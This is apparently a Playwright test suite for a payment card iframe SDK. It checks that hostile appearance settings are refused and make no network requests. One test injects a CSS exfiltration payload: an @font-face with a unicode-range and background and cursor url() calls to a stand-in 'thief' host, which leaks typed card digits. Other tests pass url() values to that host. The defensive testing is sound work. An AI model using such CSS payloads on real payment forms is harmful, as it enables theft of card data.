import type { Frame } from '@playwright/test';
import { BenchPage } from '../support/bench-page.js';
import { POWERFUL } from '../support/hostile-styles.js';
import { recordRequests, strayRequests } from '../support/requests.js';
import { FOREIGN_NAMES } from '../support/styles/foreign-names.js';
import { liesOf } from '../support/styles/lies.js';
import { LookFrames, namesPlace } from '../support/styles/look-frames.js';
import { ALL_STYLE_PAYLOADS } from '../support/styles/payloads.js';
import { appearanceOf, everywhere, looksOf, pointerOf, type Place, type StyleTry } from '../support/styles/places.js';
import { expect, test } from '../support/test.js';
import type { World } from '../support/world.js';

const payloadsOf = (world: World): readonly string[] =>
  ALL_STYLE_PAYLOADS.map((value) => value.replaceAll('THIEF', `${world.hosts.origin('thief')}/x`));

/** Where each value was taken. Whatever was not must have been refused by its code and place. */
function takenOf(tries: readonly StyleTry[], verdicts: readonly string[]): ReadonlyMap<string, readonly Place[]> {
  const taken = new Map<string, Place[]>();
  const odd: string[] = [];
  for (const [index, each] of tries.entries()) {
    const verdict = verdicts[index] ?? 'none';
    if (verdict === 'ok') taken.set(each.value, [...(taken.get(each.value) ?? []), each.place]);
    else if (!namesPlace(each, verdict)) odd.push(`${pointerOf(each.place)} ${each.value}: ${verdict}`);
  }
  expect(odd).toEqual([]);
  return taken;
}

/** Puts each look on each frame, one after the other; answers what each made untrue. */
async function liesIn(
  looks: readonly (readonly [name: string, look: object])[],
  frames: LookFrames,
  dressed: readonly Frame[],
): Promise<readonly string[]> {
  const lies: string[] = [];
  for (const [name, look] of looks) {
    for (const [index, frame] of dressed.entries()) {
      const verdict = await frames.dress(index, look);
      const seen = verdict === 'ok' ? await frame.evaluate(liesOf) : [verdict];
      lies.push(...seen.map((lie) => `${name}: ${lie}`));
    }
  }
  return lies;
}

test.describe('styles of a hostile page', () => {
  test('A34 A36 A37 fetch nothing, and what is taken makes no look that lies', async ({ page, world }) => {
    test.setTimeout(180_000);
    const requests = recordRequests(page);
    const values = payloadsOf(world);
    expect(values.length).toBeGreaterThanOrEqual(200);
    const tries = everywhere(values);
    const frames = await LookFrames.open(page, world);
    const dressed = [await frames.add('collect'), await frames.add('reveal')] as const;
    for (const role of ['collect', 'reveal', 'collect', 'reveal'] as const) await frames.add(role);
    const taken = takenOf(tries, await frames.tryAll(tries));
    expect([...taken.keys()].filter((value) => POWERFUL.test(value))).toEqual([]);
    expect(taken.size).toBeGreaterThan(50);

    const [collect] = dressed;
    await collect.getByLabel('Card number').fill('4242 4242 4242 4242');
    await frames.showErrors(0);
    const looks = [...taken].flatMap(([value, places]) => looksOf(value, places).map((look) => [value, look] as const));
    expect(await liesIn([['no look', {}], ...looks], frames, dressed)).toEqual([]);
    expect(await strayRequests(page, world, requests)).toEqual([]);
    // A lie would be seen.
    await collect.evaluate(() => document.querySelector<HTMLElement>('.label')?.style.setProperty('font-size', '1px'));
    expect(await collect.evaluate(liesOf)).toEqual(['label has 1px letters']);
  });

  test('A36 A37 A40 that stand under a name that is no input of the contract are refused', async ({ page, world }) => {
    const frames = await LookFrames.open(page, world);
    await frames.add('collect');
    await frames.add('reveal');
    const tries = FOREIGN_NAMES.flatMap((name) =>
      [
        ['variables', name],
        ['rules', name, 'base', 'color'],
        ['rules', 'input', name, 'color'],
        ['rules', 'input', 'base', name],
        ['theme'],
        ['colorScheme'],
        [name],
      ].map((place) => ({ place, value: place[0] === 'rules' || place[0] === 'variables' ? 'red' : `${name} ` })),
    );
    const verdicts = await frames.tryAll(tries);
    expect(tries.filter((_, index) => !/^(?:message|appearance) /u.test(verdicts[index] ?? ''))).toEqual([]);
    expect(await frames.dress(0, appearanceOf([{ place: ['rules', 'input', 'base', 'color'], value: 'red' }]))).toBe(
      'ok',
    );
  });

  test('A37 at every limit at once, or with every shadow, leave inputs and words where they are', async ({
    page,
    world,
  }) => {
    const frames = await LookFrames.open(page, world);
    const collect = await frames.add('collect');
    await collect.getByLabel('Card number').fill('4242 4242 4242 4242');
    await frames.showErrors(0);
    const rule = (declarations: object): object => ({ label: { base: declarations }, input: { base: declarations } });
    const largest = {
      variables: { fontSize: '32px', padding: '24px', borderWidth: '8px', gap: '64px' },
      rules: rule({ lineHeight: '3', letterSpacing: '8px', padding: '24px', borderWidth: '8px' }),
    };
    const smallest = {
      variables: { fontSize: '10px', padding: '0', borderWidth: '0', gap: '0' },
      rules: rule({ fontSize: '0.625em', lineHeight: '1', letterSpacing: '-0.1em', padding: '0' }),
    };
    expect(
      await liesIn(
        [
          ['largest', largest],
          ['smallest', smallest],
        ],
        frames,
        [collect],
      ),
    ).toEqual([]);
    // What a shadow covers is still on top for a pointer: only a picture tells.
    const words = [collect.locator('.label').nth(1), collect.locator('.help').nth(2), collect.locator('.error').nth(1)];
    const plain = { variables: { gap: '0' } };
    const pictures = async (look: object): Promise<readonly string[]> => {
      expect(await frames.dress(0, look)).toBe('ok');
      const taken: string[] = [];
      for (const each of words) taken.push((await each.screenshot()).toString('base64'));
      return taken;
    };
    const before = await pictures(plain);
    for (const shadow of ['0 0 0 64px blue', '0 -2px 0 64px blue', '0 64px 0 64px blue'])
      expect(await pictures({ ...plain, rules: { input: { base: { boxShadow: shadow } } } })).toEqual(before);
    expect(await pictures({ ...plain, rules: { label: { base: { color: 'blue' } } } })).not.toEqual(before);
  });

  test('A34 A36 the SDK tells the integrator the place of what was refused', async ({ page, world }) => {
    const bench = new BenchPage(page, world);
    await bench.mountCard('one frame');
    const heard = await page.evaluate(
      () =>
        new Promise((resolve) => {
          window.form.on('error', ({ code, hint }) => {
            resolve({ code, hint });
          });
          const rules = { input: { base: { backgroundColor: 'url(//thief.localhost)' } } };
          window.form.update({ appearance: { rules } });
        }),
    );
    expect(heard).toEqual({ code: 'appearance', hint: '/rules/input/base/backgroundColor' });
  });
});

test.describe('a style from inside', () => {
  // It is asked for, and refused by the policy before it leaves.
  test.use({ tried: ['//thief.localhost'] });

  test('A34 A36 that got past the frame would still fetch nothing: the policy is a second wall', async ({
    page,
    world,
  }) => {
    const reached: string[] = [];
    for (const path of ['/font', '/background', '/cursor', '/control'])
      world.hosts.serve(path, {
        handle: async () => {
          reached.push(path);
          return { status: 200, body: '' };
        },
      });
    const bench = new BenchPage(page, world);
    await bench.mountCard('one frame');
    const frame = await bench.frameOf('number', 'one frame');
    const thief = world.hosts.origin('thief');
    await frame.evaluate((url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face{font-family:x;src:url(${url}/font);unicode-range:U+34}
        .input{font-family:x!important;background:url(${url}/background)!important;cursor:url(${url}/cursor),auto}`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    }, thief);
    await bench.type('number', '4242', 'one frame');
    await page.evaluate((url) => fetch(`${url}/control`, { mode: 'no-cors' }), thief);
    expect(reached).toEqual(['/control']);
  });
});
